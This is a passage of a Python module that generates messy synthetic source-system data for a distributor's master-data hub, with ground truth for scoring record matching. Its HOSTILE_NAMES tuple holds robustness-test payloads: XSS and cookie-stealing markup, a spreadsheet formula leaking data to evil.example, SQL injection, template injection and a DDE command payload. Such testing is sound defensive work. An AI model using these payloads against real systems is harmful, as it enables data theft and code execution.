"""Generate messy, realistic source-system extracts of a US industrial distributor.

The hub needs data that behaves like the real thing: four systems (ERP, CRM,
eCommerce, WMS) that each hold their own copy of customers, products and
prices, disagree with each other, and contain the usual dirt: typos,
abbreviations, stale addresses, duplicates inside one system, branches that
share a name with their headquarters but are *not* duplicates, invalid codes,
hostile strings. Every row is written together with the real-world entity it
belongs to (``ground_truth.csv``), so matching quality can be scored.

Pure Python, no Django. Output is streamed block by block, so memory stays
bounded at any size, and it is deterministic: the same arguments give the same
bytes, whatever the number of worker processes. Each block of entities draws
from its own random stream seeded by ``(seed, phase, block number)``, which is
what makes the output independent of how blocks are spread over processes.

Example::

    >>> from mdm.demo.generator import generate
    >>> summary = generate("var/demo", customers=1_000, seed=7)   # doctest: +SKIP
    >>> [(f.name, f.rows) for f in summary.files][:2]             # doctest: +SKIP
    [('erp_customers.csv', 863), ('erp_items.csv', 505)]
    >>> summary.planted["duplicate_in_crm"], summary.planted["branches"]  # doctest: +SKIP
    (28, 61)

Files written (mapped to canonical attributes by ``mdm/config/sources/demo.yaml``):

===================  ===========================  ======  ===============
source               file                         format  encoding
===================  ===========================  ======  ===============
erp customers        erp_customers.csv            csv     latin-1
erp products         erp_items.csv                csv     latin-1
erp prices           erp_contract_prices.csv      csv     latin-1
crm customers        crm_accounts.jsonl           jsonl   utf-8
crm products         crm_products.jsonl           jsonl   utf-8
crm prices           crm_quote_lines.jsonl        jsonl   utf-8
ecom customers       ecom_web_accounts.csv        csv     utf-8
ecom products        ecom_catalog.csv             csv     utf-8
ecom prices          ecom_web_prices.csv          csv     utf-8
wms products         wms_items.csv                csv     utf-8
===================  ===========================  ======  ===============

plus ``ground_truth.csv`` (``entity_type,source,source_id,entity_key``) and
``manifest.json`` (sizes, row counts, planted-issue counts; no timings, so it
is as deterministic as the data).

Entity keys: customers ``C0000001``, products ``P0000001``, prices
``C0000001|P0000042`` (one customer-specific agreement, whichever system and
unit of measure it is expressed in) or ``WEB|P0000042`` (web list price).
"""
from __future__ import annotations

import contextlib
import csv
import io
import json
import math
import multiprocessing
import os
import random
import re
import time
import unicodedata
from array import array
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from functools import lru_cache
from pathlib import Path
from typing import Any

GENERATOR_VERSION = "1"

# Entities per block. Part of the output's identity: each block has its own
# random stream, so changing this changes the bytes (changing workers doesn't).
BLOCK_SIZE = 2000
PRICE_CAP = 5_000_000  # default price rows: 2 × customers, at most this
MAX_PRODUCTS = 5_000_000  # GTIN and MPN schemes below stay unique up to here

# --------------------------------------------------------------------------- #
# Rates of planted issues (fractions), chosen to resemble real extracts of
# distributors: high enough to matter, low enough that most data is usable.
# --------------------------------------------------------------------------- #
RATES: dict[str, float] = {
    # which systems know a real customer
    "customer_in_erp": 0.85,
    "customer_in_crm": 0.70,
    "customer_in_ecom": 0.35,
    "branch_in_erp": 0.95,      # branches are ship-to accounts: almost always in the ERP
    "branch_in_crm": 0.45,
    "branch_in_ecom": 0.15,
    # hierarchy: organisations with ship-to branches sharing the HQ's name
    "org_with_branches": 0.03,  # × ~3 branches each ≈ 8 % of customers are branches
    "branch_shares_hq_tax_id": 0.5,
    "erp_branch_copies_hq_name": 0.8,
    "erp_branch_name_with_city": 0.2,
    "crm_branch_parent_link": 0.8,
    # true duplicates inside one system
    "dup_in_erp": 0.005,
    "dup_in_crm": 0.04,
    "dup_in_ecom": 0.025,
    # customer value dirt
    "moved": 0.04,              # old address in some systems, new (newer timestamp) in others
    "canadian": 0.015,
    "invalid_tax_id": 0.02,
    "typo_erp": 0.01, "typo_crm": 0.03, "typo_ecom": 0.06,
    "abbrev_erp": 0.25, "abbrev_crm": 0.12, "abbrev_ecom": 0.25,
    "reordered_words": 0.01,
    "erp_upper_case": 0.35,
    "ecom_lower_case": 0.15, "ecom_upper_case": 0.05,
    "ecom_personal_email": 0.35,
    "ecom_missing_phone": 0.06, "ecom_missing_address": 0.04,
    "credit_limit_conflict": 0.08,  # CRM's limit differs from the ERP's
    "payment_terms_conflict": 0.06,
    "hostile_name": 0.001,      # valid records with HTML/script/formula text in a name
    "bad_row": 0.005,           # per file: missing ID, missing name, invalid GTIN, unparsable price…
    # products
    "product_in_wms": 0.80,
    "product_in_ecom": 0.60,
    "product_in_crm": 0.20,
    "product_without_gtin": 0.05,   # no GTIN anywhere (bulk, private label)
    "gtin_missing_erp": 0.08, "gtin_missing_wms": 0.15, "gtin_missing_ecom": 0.25,
    "dup_item_erp": 0.01, "dup_item_wms": 0.005,
    "wms_pack_qty_conflict": 0.02,
    "web_price_differs": 0.15,
    # prices
    "quote_on_contract_item": 0.25,  # of agreements of a customer in ERP and CRM: quoted and contracted
    "quote_only": 0.25,
    "contract_in_pack_uom": 0.2,
    "quote_other_uom": 0.15,       # CS in one system, EA in the other
    "quote_price_within_5pct": 0.18,
    "quote_price_beyond_5pct": 0.12,
    "overlapping_validity": 0.05,  # a second ERP line for the same agreement, windows overlap
}

# --------------------------------------------------------------------------- #
# Output files
# --------------------------------------------------------------------------- #


@dataclass(frozen=True)
class FileSpec:
    name: str
    source: str
    entity: str
    fmt: str  # csv | jsonl
    encoding: str
    columns: tuple[str, ...]  # CSV header, or JSONL keys in order
    newline: str = "\n"
    id_column: str = ""  # the source's record ID; the first column unless stated

    @property
    def id_field(self) -> str:
        return self.id_column or self.columns[0]


ERP_CUSTOMERS = FileSpec("erp_customers.csv", "erp", "customer", "csv", "latin-1", (
    "CustomerNo", "CustomerName", "AccountType", "ParentCustomerNo", "BillToCustomerNo", "TaxID",
    "DUNS", "Address1", "Address2", "City", "State", "Zip", "Country", "Phone", "Email",
    "ContactName", "CreditLimit", "Currency", "PaymentTerms", "Status", "SalesRep", "Territory",
    "Deleted", "LastModified"), "\r\n")
ERP_ITEMS = FileSpec("erp_items.csv", "erp", "product", "csv", "latin-1", (
    "ItemNo", "Description", "Manufacturer", "MfrPartNo", "GTIN", "BaseUOM", "PackUOM", "PackQty",
    "ListPrice", "Currency", "Category", "WeightKG", "Status", "Buyer", "LastModified"), "\r\n")
ERP_PRICES = FileSpec("erp_contract_prices.csv", "erp", "price", "csv", "latin-1", (
    "AgreementLineId", "CustomerNo", "ItemNo", "ContractPrice", "Currency", "UOM", "MinQty",
    "ValidFrom", "ValidTo", "PriceType", "LastModified"), "\r\n")
CRM_ACCOUNTS = FileSpec("crm_accounts.jsonl", "crm", "customer", "jsonl", "utf-8", (
    "Id", "Name", "Type", "ParentId", "BillingStreet", "BillingCity", "BillingState",
    "BillingPostalCode", "BillingCountry", "Phone", "Website", "PrimaryContact", "ContactEmail",
    "Tax_ID__c", "PaymentTerms", "CreditLimit", "CurrencyIsoCode", "OwnerName", "Industry",
    "NumberOfEmployees", "IsDeleted", "CreatedDate", "LastModifiedDate"))
CRM_PRODUCTS = FileSpec("crm_products.jsonl", "crm", "product", "jsonl", "utf-8", (
    "Id", "ProductCode", "Name", "ManufacturerPartNo", "Family", "IsActive", "LastModifiedDate"),
    id_column="ProductCode")  # quote lines reference products by code, not by Id
CRM_QUOTES = FileSpec("crm_quote_lines.jsonl", "crm", "price", "jsonl", "utf-8", (
    "QuoteLineId", "QuoteNumber", "AccountId", "ProductCode", "UnitPrice", "Discount",
    "CurrencyIsoCode", "Uom", "Quantity", "QuoteDate", "ValidUntil", "Status", "Price_Type__c",
    "LastModifiedDate"))
ECOM_ACCOUNTS = FileSpec("ecom_web_accounts.csv", "ecom", "customer", "csv", "utf-8", (
    "account_id", "company_name", "contact_name", "email", "phone", "address1", "address2", "city",
    "state", "zip", "country", "customer_group", "tax_exempt", "newsletter_opt_in", "created_at",
    "updated_at"))
ECOM_CATALOG = FileSpec("ecom_catalog.csv", "ecom", "product", "csv", "utf-8", (
    "sku", "title", "long_description", "brand", "manufacturer", "mpn", "gtin", "price", "currency",
    "category", "url", "in_stock", "updated_at"))
ECOM_PRICES = FileSpec("ecom_web_prices.csv", "ecom", "price", "csv", "utf-8", (
    "price_id", "sku", "price_list", "price", "currency", "uom", "price_type", "effective_from",
    "effective_to", "updated_at"))
WMS_ITEMS = FileSpec("wms_items.csv", "wms", "product", "csv", "utf-8", (
    "ITEM_CODE", "SHORT_DESC", "UPC", "MFR_PART", "UOM", "CASE_QTY", "WEIGHT_KG", "BIN_LOCATION",
    "LAST_COUNT_DATE", "UPDATED_AT"))
GROUND_TRUTH = FileSpec("ground_truth.csv", "", "", "csv", "utf-8",
                        ("entity_type", "source", "source_id", "entity_key"))

DATA_FILES = (ERP_CUSTOMERS, ERP_ITEMS, ERP_PRICES, CRM_ACCOUNTS, CRM_PRODUCTS, CRM_QUOTES,
              ECOM_ACCOUNTS, ECOM_CATALOG, ECOM_PRICES, WMS_ITEMS)
ALL_FILES = DATA_FILES + (GROUND_TRUTH,)
PRODUCT_PHASE_FILES = (ERP_ITEMS, WMS_ITEMS, ECOM_CATALOG, CRM_PRODUCTS, ECOM_PRICES, GROUND_TRUTH)
CUSTOMER_PHASE_FILES = (ERP_CUSTOMERS, CRM_ACCOUNTS, ECOM_ACCOUNTS, ERP_PRICES, CRM_QUOTES,
                        GROUND_TRUTH)

def _words(text: str, sep: str | None = None) -> tuple[str, ...]:
    return tuple(text.split(sep))


# --------------------------------------------------------------------------- #
# Word lists. Everything here must be Latin-1 encodable: ERP files are Latin-1
# and a name reaches the ERP unchanged. UTF-8-only characters (curly quotes)
# are introduced by the eCommerce renderers only.
# --------------------------------------------------------------------------- #

SURNAMES = _words(
    "Adams Allen Anderson Bailey Baker Barnes Bell Bennett Brooks Brown Bryant Butler Campbell "
    "Carter Clark Coleman Collins Cook Cooper Cox Davis Diaz Edwards Evans Fisher Flores Ford Foster "
    "Garcia Gibson Gonzalez Graham Gray Green Griffin Hall Hamilton Harris Hayes Henderson Hill "
    "Howard Hughes Jackson James Jenkins Johnson Jones Kelly Kennedy King Lee Lewis Long Lopez "
    "Marshall Martin Martinez Mason Miller Mitchell Moore Morgan Morris Murphy Myers Nelson Owens "
    "Parker Patterson Perry Peterson Phillips Powell Price Ramirez Reed Reynolds Richardson Rivera "
    "Roberts Robinson Rogers Ross Russell Sanders Scott Simmons Smith Stewart Sullivan Taylor Thomas "
    "Thompson Torres Turner Walker Wallace Ward Watson West White Williams Wilson Wood Wright Young "
    "Becker Schmidt Schneider Hoffman Wagner Weber Koch Richter Klein Wolf Neumann Schwartz "
    "Zimmerman Braun Hartmann Krause Lehmann Kowalski Nowak Novak Olsen Hansen Larsen Nielsen "
    "Johansson Berg Holm O'Brien O'Connor O'Neil McCarthy McDonald MacKenzie Fitzgerald Gallagher "
    "Doyle Byrne Walsh Quinn Rossi Russo Ferrari Esposito Romano Colombo Ricci Marino Greco Bruno "
    "Conti DeLuca Moretti Lombardi Dubois Moreau Laurent Fournier Girard Bonnet Dupont Lambert "
    "Fontaine Chevalier Nguyen Tran Pham Kim Park Chen Wang Zhang Liu Yang Huang Patel Shah Singh "
    "Kumar Gupta Mehta Cohen Levy Friedman Katz Hernandez Gomez Morales Reyes Cruz Ortiz Gutierrez "
    "Chavez Ramos Ruiz Alvarez Mendoza Castillo Vargas Romero Herrera Medina Aguilar Vega Delgado "
    "Holt Keller Lowe Burke Hahn Stone Crane Frost Hale Knox Vance Pruitt Whitaker Dalton Sutton "
    # with diacritics: the reason the ERP's encoding matters
    "Peña Muñoz Núñez Ibáñez Müller Schröder Böhm Günther Jürgens Kühn Bélanger Gagné Lefèvre "
    "Côté Thériault Bergström Lindström Sørensen Hernández García Jiménez Fernández Gómez"
)
FIRST_NAMES = _words(
    "James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara "
    "Richard Susan Joseph Jessica Thomas Sarah Charles Karen Christopher Lisa Daniel Nancy Matthew "
    "Betty Anthony Sandra Mark Ashley Donald Kimberly Steven Emily Paul Donna Andrew Michelle "
    "Joshua Carol Kenneth Amanda Kevin Melissa Brian Deborah George Stephanie Timothy Rebecca "
    "Ronald Sharon Jason Laura Edward Cynthia Jeffrey Kathleen Ryan Amy Jacob Angela Gary Shirley "
    "Nicholas Anna Eric Brenda Jonathan Pamela Larry Emma Justin Nicole Scott Helen Brandon "
    "Samantha Raymond Katherine Frank Christine Gregory Debra Benjamin Rachel Samuel Carolyn "
    "José María Renée André Zoë"
)
PLACES = _words(
    "Great Lakes|Gulf Coast|Pacific|Atlantic|Midwest|Southwest|Northwest|Mid-South|Tri-State|"
    "Tri-County|Central|Coastal|Valley|Mountain|Prairie|Lone Star|Bay Area|Bayou|Keystone|Empire|"
    "Heartland|Twin Cities|Piedmont|Ozark|Rocky Mountain|Desert|Sierra|Cascade|Hudson Valley|"
    "Ohio Valley|Delta|Capital|Metro|Golden State|Sunbelt|Blue Ridge|Chesapeake|New England|"
    "Inland|Permian|Red River|Big Sky|Cumberland|Mohawk|Mesa|Canyon|Harbor|Riverside|Lakeside|"
    "Northern|Southern|Eastern|Western|American|National|United|Continental|North American|"
    "Saint Louis|Mid-Atlantic|Gateway|Frontier|Panhandle",
    "|",
)
COINED = _words(
    "Apex Summit Pinnacle Precision Allied Titan Liberty Patriot Eagle Falcon Atlas Vanguard "
    "Sterling Premier Quality Reliable Superior Dynamic Integrity Pioneer Legacy Heritage Benchmark "
    "Cornerstone Ironclad Steelhead Redline Bluewater Crossroads Meridian Horizon Vertex Zenith "
    "Nexus Omni ProLine DuraCore FlexTech Kwik-Lok AccuFab UniTek BoltRite Arrow Anchor Beacon "
    "Compass Granite Oakridge Cedar Hickory Ironwood Copperhead Cobalt Carbon Trident Sentinel "
    "Paragon Matrix Keystone Centurion Evergreen Northstar Lodestar ProFlow® DuraLine® Señal"
)
TRADES = _words(
    "Industrial|Mechanical|Electrical|Electric|Plumbing|Hydraulic|Pneumatic|Welding|Fastener|"
    "Bearing|Tool|Machine|Steel|Metal|Metals|Fabrication|Construction|Contracting|HVAC|"
    "Refrigeration|Safety|Packaging|Janitorial|Maintenance|Pump|Valve|Pipe|Power|Energy|Oilfield|"
    "Mining|Marine|Automotive|Truck|Fleet|Facility|Building|Roofing|Concrete|Paving|Excavating|"
    "Lumber|Millwork|Plastics|Rubber|Chemical|Coatings|Paint|Glass|Door|Elevator|Fire Protection|"
    "Controls|Automation|Conveyor|Crane|Rigging|Compressor|Generator|Irrigation|Water|"
    "Environmental|Foundry|Forge|Casting|Stamping|Machining|Tooling|Tool & Die|Mold|Wire|Cable|"
    "Lighting|Sign|Printing|Food|Dairy|Brewing|Bottling|Aerospace|Rail|Utility|Mechanical Contractors",
    "|",
)
BIZ = _words(
    "Supply Supplies Services Service Solutions Systems Products Equipment Manufacturing "
    "Distribution Distributors Group Works Industries Enterprises Partners Contractors Engineering "
    "Technologies Associates Sales Holdings Specialties Resources Logistics Supply Supply Services"
)
# Legal forms: the first three are how a company writes its own name; the
# rest are variants other people type.
SUFFIXES = (
    ("Inc.", "Inc", "Incorporated", "INC"),
    ("LLC", "L.L.C.", "LLC", "Llc", "LLC."),
    ("Corp.", "Corp", "Corporation", "CORP"),
    ("Co.", "Co", "Company", "CO"),
    ("Ltd.", "Ltd", "Limited"),
    ("LP", "L.P."),
)
SUFFIX_WEIGHTS = (0.30, 0.58, 0.68, 0.80, 0.82, 0.85)  # cumulative; the rest has no legal form
ABBREVIATIONS = {
    "Industrial": ("Ind", "Ind.", "Indus"), "Manufacturing": ("Mfg", "Mfg."), "Supply": ("Sply", "Sup"),
    "Supplies": ("Supp", "Sups"), "Services": ("Svcs", "Svc", "Serv"), "Service": ("Svc", "Serv"),
    "Distribution": ("Dist", "Distrib"), "Distributors": ("Dist", "Distr"),
    "Engineering": ("Eng", "Engr"), "Brothers": ("Bros", "Bros."), "Electric": ("Elec",),
    "Electrical": ("Elec", "Elect"), "Mechanical": ("Mech",), "Equipment": ("Equip", "Eqpt"),
    "Products": ("Prods", "Prod"), "Construction": ("Constr", "Const"), "Systems": ("Sys", "Syst"),
    "Technologies": ("Tech", "Techs"), "Associates": ("Assoc", "Assocs"), "Contractors": ("Contr",),
    "Hydraulic": ("Hyd", "Hydr"), "Fabrication": ("Fab",), "Maintenance": ("Maint",),
    "Machine": ("Mach",), "National": ("Natl", "Nat'l"), "American": ("Amer",),
    "Mountain": ("Mtn",), "&": ("and",), "and": ("&",), "Enterprises": ("Ent", "Ents"),
    "Industries": ("Inds", "Ind"), "Specialties": ("Spec", "Spclty"), "Environmental": ("Env", "Envir"),
    "Refrigeration": ("Refrig",), "Automation": ("Auto",), "Packaging": ("Pkg",),
    "Controls": ("Ctrls",), "Solutions": ("Sol", "Solns"), "International": ("Intl", "Int'l"),
    "Saint": ("St", "St."), "North": ("N",), "Protection": ("Prot",), "Contracting": ("Contr",),
    "Lighting": ("Ltg",), "Resources": ("Res",), "Logistics": ("Log",), "Sales": ("Sls",),
}
STREET_NAMES = _words(
    "Main|Oak|Maple|Cedar|Pine|Elm|Washington|Lincoln|Jefferson|Industrial|Commerce|Enterprise|"
    "Airport|Railroad|Market|Park|Lake|Hill|River|Mill|Church|Center|Union|Franklin|Madison|"
    "Jackson|Harbor|Factory|Foundry|Warehouse|Distribution|Corporate|Technology|Business Park|"
    "Gateway|Interstate|Freeway|Canal|Dock|Port|Quarry|Mining|Ridge|Valley|Meadow|Prairie|"
    "Sunset|Highland|Forest|Spring|Willow|Walnut|Chestnut|Hickory|Sycamore|Magnolia|Pecan|"
    "Martin Luther King Jr|Old Mill|Kings|Queens|Bridge|Station|Depot|Progress|Liberty|Eagle|"
    "Pioneer|Frontier|Ranch|Cypress|Bay|Shore|Summit|Crossroads|Northpoint|Southpark|Westgate|"
    "Eastgate|Research|Innovation|Logistics|Tradeport|Expressway|Loop|Beltline|County Road 12|"
    "Farm to Market 1960|State Route 9",
    "|",
)
STREET_TYPES = (("Street", "St"), ("Avenue", "Ave"), ("Road", "Rd"), ("Boulevard", "Blvd"),
                ("Drive", "Dr"), ("Parkway", "Pkwy"), ("Lane", "Ln"), ("Way", "Way"),
                ("Court", "Ct"), ("Highway", "Hwy"), ("Place", "Pl"), ("Circle", "Cir"),
                ("Street", "St"), ("Avenue", "Ave"), ("Road", "Rd"), ("Drive", "Dr"))
DIRECTIONS = (("North", "N"), ("South", "S"), ("East", "E"), ("West", "W"))
UNITS = (("Suite", "Ste"), ("Suite", "Ste"), ("Suite", "Ste"), ("Unit", "Unit"),
         ("Building", "Bldg"), ("Floor", "Fl"), ("Dock", "Dock"))
# city, state, ZIP prefix, area code. Several names exist in more than one
# state (Portland, Kansas City, Springfield, Charleston): matching must not
# treat a city name as unique.
CITIES = tuple(tuple(x.split(",")) for x in re.split(r"(?<=\d) ", (
    "Birmingham,AL,352,205 Huntsville,AL,358,256 Mobile,AL,366,251 Phoenix,AZ,850,602 "
    "Tucson,AZ,857,520 Mesa,AZ,852,480 Little Rock,AR,722,501 Fort Smith,AR,729,479 "
    "Los Angeles,CA,900,213 San Diego,CA,921,619 Fresno,CA,937,559 Sacramento,CA,958,916 "
    "Oakland,CA,946,510 San Jose,CA,951,408 Bakersfield,CA,933,661 Ontario,CA,917,909 "
    "Stockton,CA,952,209 Anaheim,CA,928,714 Denver,CO,802,303 Colorado Springs,CO,809,719 "
    "Pueblo,CO,810,719 Fort Collins,CO,805,970 Hartford,CT,061,860 New Haven,CT,065,203 "
    "Bridgeport,CT,066,203 Wilmington,DE,198,302 Miami,FL,331,305 Tampa,FL,336,813 "
    "Orlando,FL,328,407 Jacksonville,FL,322,904 Fort Lauderdale,FL,333,954 Atlanta,GA,303,404 "
    "Savannah,GA,314,912 Macon,GA,312,478 Boise,ID,837,208 Chicago,IL,606,312 Rockford,IL,611,815 "
    "Peoria,IL,616,309 Elk Grove Village,IL,600,847 Joliet,IL,604,815 Indianapolis,IN,462,317 "
    "Fort Wayne,IN,468,260 Evansville,IN,477,812 South Bend,IN,466,574 Des Moines,IA,503,515 "
    "Cedar Rapids,IA,524,319 Davenport,IA,528,563 Wichita,KS,672,316 Kansas City,KS,661,913 "
    "Louisville,KY,402,502 Lexington,KY,405,859 New Orleans,LA,701,504 Baton Rouge,LA,708,225 "
    "Shreveport,LA,711,318 Lafayette,LA,705,337 Portland,ME,041,207 Baltimore,MD,212,410 "
    "Boston,MA,021,617 Worcester,MA,016,508 Springfield,MA,011,413 Detroit,MI,482,313 "
    "Grand Rapids,MI,495,616 Lansing,MI,489,517 Flint,MI,485,810 Warren,MI,480,586 "
    "Minneapolis,MN,554,612 Saint Paul,MN,551,651 Duluth,MN,558,218 Jackson,MS,392,601 "
    "St. Louis,MO,631,314 Kansas City,MO,641,816 Springfield,MO,658,417 Billings,MT,591,406 "
    "Omaha,NE,681,402 Lincoln,NE,685,402 Las Vegas,NV,891,702 Reno,NV,895,775 "
    "Manchester,NH,031,603 Newark,NJ,071,973 Edison,NJ,088,732 Trenton,NJ,086,609 "
    "Secaucus,NJ,070,201 Albuquerque,NM,871,505 Buffalo,NY,142,716 Rochester,NY,146,585 "
    "Syracuse,NY,132,315 Albany,NY,122,518 Bronx,NY,104,718 Charlotte,NC,282,704 "
    "Greensboro,NC,274,336 Raleigh,NC,276,919 Fargo,ND,581,701 Columbus,OH,432,614 "
    "Cleveland,OH,441,216 Cincinnati,OH,452,513 Toledo,OH,436,419 Dayton,OH,454,937 "
    "Akron,OH,443,330 Oklahoma City,OK,731,405 Tulsa,OK,741,918 Portland,OR,972,503 "
    "Eugene,OR,974,541 Philadelphia,PA,191,215 Pittsburgh,PA,152,412 Allentown,PA,181,610 "
    "Erie,PA,165,814 Harrisburg,PA,171,717 Providence,RI,029,401 Columbia,SC,292,803 "
    "Greenville,SC,296,864 Charleston,SC,294,843 Sioux Falls,SD,571,605 Nashville,TN,372,615 "
    "Memphis,TN,381,901 Knoxville,TN,379,865 Chattanooga,TN,374,423 Houston,TX,770,713 "
    "Dallas,TX,752,214 San Antonio,TX,782,210 Austin,TX,787,512 Fort Worth,TX,761,817 "
    "El Paso,TX,799,915 Corpus Christi,TX,784,361 Odessa,TX,797,432 Lubbock,TX,794,806 "
    "Beaumont,TX,777,409 Laredo,TX,780,956 Salt Lake City,UT,841,801 Ogden,UT,844,801 "
    "Richmond,VA,232,804 Norfolk,VA,235,757 Roanoke,VA,240,540 Seattle,WA,981,206 "
    "Spokane,WA,992,509 Tacoma,WA,984,253 Kent,WA,980,253 Charleston,WV,253,304 "
    "Milwaukee,WI,532,414 Madison,WI,537,608 Green Bay,WI,543,920 Casper,WY,826,307 "
    "Anchorage,AK,995,907 Honolulu,HI,968,808 Houston,TX,770,281 Dallas,TX,752,972 "
    "Chicago,IL,606,773 Los Angeles,CA,900,323 Atlanta,GA,303,770 Phoenix,AZ,850,623"
)))
CA_CITIES = tuple(tuple(x.split(",")) for x in re.split(r"(?<=\d) ", (
    "Toronto,ON,M5V,416 Mississauga,ON,L5T,905 Hamilton,ON,L8N,905 Calgary,AB,T2E,403 "
    "Edmonton,AB,T6E,780 Vancouver,BC,V6B,604 Winnipeg,MB,R3C,204 Montréal,QC,H3B,514 "
    "Québec,QC,G1K,418 Saskatoon,SK,S7K,306 Halifax,NS,B3J,902"
)))
STATE_NAMES = {
    "AL": "Alabama", "AK": "Alaska", "AZ": "Arizona", "AR": "Arkansas", "CA": "California",
    "CO": "Colorado", "CT": "Connecticut", "DE": "Delaware", "FL": "Florida", "GA": "Georgia",
    "HI": "Hawaii", "ID": "Idaho", "IL": "Illinois", "IN": "Indiana", "IA": "Iowa", "KS": "Kansas",
    "KY": "Kentucky", "LA": "Louisiana", "ME": "Maine", "MD": "Maryland", "MA": "Massachusetts",
    "MI": "Michigan", "MN": "Minnesota", "MS": "Mississippi", "MO": "Missouri", "MT": "Montana",
    "NE": "Nebraska", "NV": "Nevada", "NH": "New Hampshire", "NJ": "New Jersey",
    "NM": "New Mexico", "NY": "New York", "NC": "North Carolina", "ND": "North Dakota",
    "OH": "Ohio", "OK": "Oklahoma", "OR": "Oregon", "PA": "Pennsylvania", "RI": "Rhode Island",
    "SC": "South Carolina", "SD": "South Dakota", "TN": "Tennessee", "TX": "Texas", "UT": "Utah",
    "VA": "Virginia", "WA": "Washington", "WV": "West Virginia", "WI": "Wisconsin",
    "WY": "Wyoming", "ON": "Ontario", "AB": "Alberta", "BC": "British Columbia",
    "MB": "Manitoba", "QC": "Québec", "SK": "Saskatchewan", "NS": "Nova Scotia",
}
# AP-style abbreviations people still type into web forms
STATE_AP = {"TX": "Tex.", "CA": "Calif.", "IL": "Ill.", "PA": "Penn.", "MI": "Mich.", "FL": "Fla.",
            "GA": "Ga.", "OK": "Okla.", "MN": "Minn.", "WI": "Wis.", "AZ": "Ariz.", "CO": "Colo."}
VALID_EIN_PREFIXES = _words(
    "01 02 03 04 05 06 10 11 12 13 14 15 16 20 21 22 23 24 25 26 27 30 31 32 33 34 35 36 37 38 "
    "39 40 41 42 43 44 45 46 47 48 50 51 52 53 54 55 56 57 58 59 60 61 62 63 64 65 66 67 68 71 "
    "72 73 74 75 76 77 80 81 82 83 84 85 86 87 88 90 91 92 93 94 95 98 99")
INVALID_EIN_PREFIXES = ("00", "07", "08", "09", "17", "18", "19", "28", "29", "49", "69", "70",
                        "78", "79", "89", "96", "97")
PAYMENT_TERMS = ("NET30", "NET30", "NET30", "NET30", "NET30", "NET30", "NET60", "NET60",
                 "2%10NET30", "2%10NET30", "2%10NET30", "COD")
CRM_TERMS = {"NET30": ("Net 30", "NET 30", "Net30"), "NET60": ("Net 60", "NET 60"),
             "2%10NET30": ("2% 10 Net 30", "2/10 Net 30"), "COD": ("COD", "C.O.D.", "Cash on Delivery")}
CREDIT_LIMITS = (1000, 2500, 5000, 5000, 7500, 10000, 10000, 15000, 25000, 25000, 50000, 75000,
                 100000, 150000, 250000, 500000)
PERSONAL_DOMAINS = ("gmail.com", "gmail.com", "gmail.com", "yahoo.com", "outlook.com",
                    "hotmail.com", "aol.com", "icloud.com", "comcast.net", "att.net")
INDUSTRIES = ("Construction", "Manufacturing", "Oil & Gas", "Food & Beverage", "Government",
              "Education", "Healthcare", "Utilities", "Transportation", "Mining", "Agriculture",
              "Automotive", "Aerospace", "Chemicals", None)
OWNERS = ("Dana Whitfield", "Marcus Lee", "Priya Raman", "Tom Kowalczyk", "Angela Brooks",
          "Luis Ortega", "Heather McBride", "Kevin O'Hara", "Sofia Castillo", "Brent Nakamura",
          "Jolene Pruitt", "Raj Malhotra", "Integration User")
CRM_TYPES = ("Customer - Direct", "Customer - Direct", "Customer - Channel", "Customer - Key Account",
             "Prospect", "Other")
SALES_REPS = tuple(f"SR{n:03d}" for n in range(1, 41))
TERRITORIES = {"AL": "SE", "AZ": "SW", "AR": "SC", "CA": "WC", "CO": "MT", "CT": "NE", "DE": "MA",
               "FL": "SE", "GA": "SE", "ID": "MT", "IL": "MW", "IN": "MW", "IA": "MW", "KS": "SC",
               "KY": "SE", "LA": "SC", "ME": "NE", "MD": "MA", "MA": "NE", "MI": "MW", "MN": "MW",
               "MS": "SE", "MO": "MW", "MT": "MT", "NE": "MW", "NV": "SW", "NH": "NE", "NJ": "MA",
               "NM": "SW", "NY": "NE", "NC": "SE", "ND": "MW", "OH": "MW", "OK": "SC", "OR": "WC",
               "PA": "MA", "RI": "NE", "SC": "SE", "SD": "MW", "TN": "SE", "TX": "SC", "UT": "MT",
               "VA": "MA", "WA": "WC", "WV": "MA", "WI": "MW", "WY": "MT", "AK": "WC", "HI": "WC"}
# Valid records with text that must be kept as text, never interpreted.
HOSTILE_NAMES = (
    "<b>{name}</b> <script>alert(1)</script>",
    "{name}\"><img src=x onerror=alert(document.cookie)>",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"{name}\")",
    "{name}'); DROP TABLE customers;--",
    "{{{{7*7}}}} ${{7*7}} {name}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {name}",
)

_FOLD = str.maketrans({c: unicodedata.normalize("NFKD", c)[0]
                       for c in "àáâãäåçèéêëìíîïñòóôõöøùúûüýÿÀÁÂÃÄÅÇÈÉÊËÌÍÎÏÑÒÓÔÕÖØÙÚÛÜÝ"}
                      | {"ø": "o", "Ø": "O", "®": "", "'": ""})

# --------------------------------------------------------------------------- #
# Products: templates of real MRO product lines. A family is one template,
# manufacturer and set of fixed attributes; its members differ by the
# "vary" dimension only (size, colour, pack): near-identical, never duplicates.
# --------------------------------------------------------------------------- #


@dataclass(frozen=True)
class _Template:
    category: str          # eCommerce breadcrumb
    family: str            # CRM product family
    name: str
    dims: tuple[tuple[str, ...], ...]
    vary: int              # index into dims of the dimension that varies inside a family
    price: tuple[float, float]  # list price per base unit, USD
    kg: tuple[float, float]     # weight per base unit
    base_uom: str
    pack_uom: str
    packs: tuple[int, ...]


def _t(category, family, name, dims, vary, price, kg, base_uom="EA", pack_uom="CS", packs=(12,)):
    return _Template(category, family, name, tuple(tuple(d.split("|")) for d in dims), vary, price,
                     kg, base_uom, pack_uom, packs)


_THREADS = '1/4"-20|5/16"-18|3/8"-16|1/2"-13|5/8"-11|3/4"-10'
_LENGTHS = '1/2" L|3/4" L|1" L|1-1/4" L|1-1/2" L|2" L|2-1/2" L|3" L|4" L|6" L'
TEMPLATES = (
    _t("Fasteners > Screws > Hex Cap Screws", "Hardware", "Hex Head Cap Screw",
       ("Grade 5|Grade 8|18-8 Stainless Steel|316 Stainless Steel", "Zinc Plated|Plain|Yellow Zinc|Hot-Dip Galvanized",
        _THREADS, _LENGTHS), 3, (0.08, 1.9), (0.01, 0.2), "EA", "BX", (50, 100, 25)),
    _t("Fasteners > Nuts > Hex Nuts", "Hardware", "Hex Nut",
       ("Grade 5|Grade 8|18-8 Stainless Steel|Nylon Insert Lock", "Zinc Plated|Plain|Yellow Zinc",
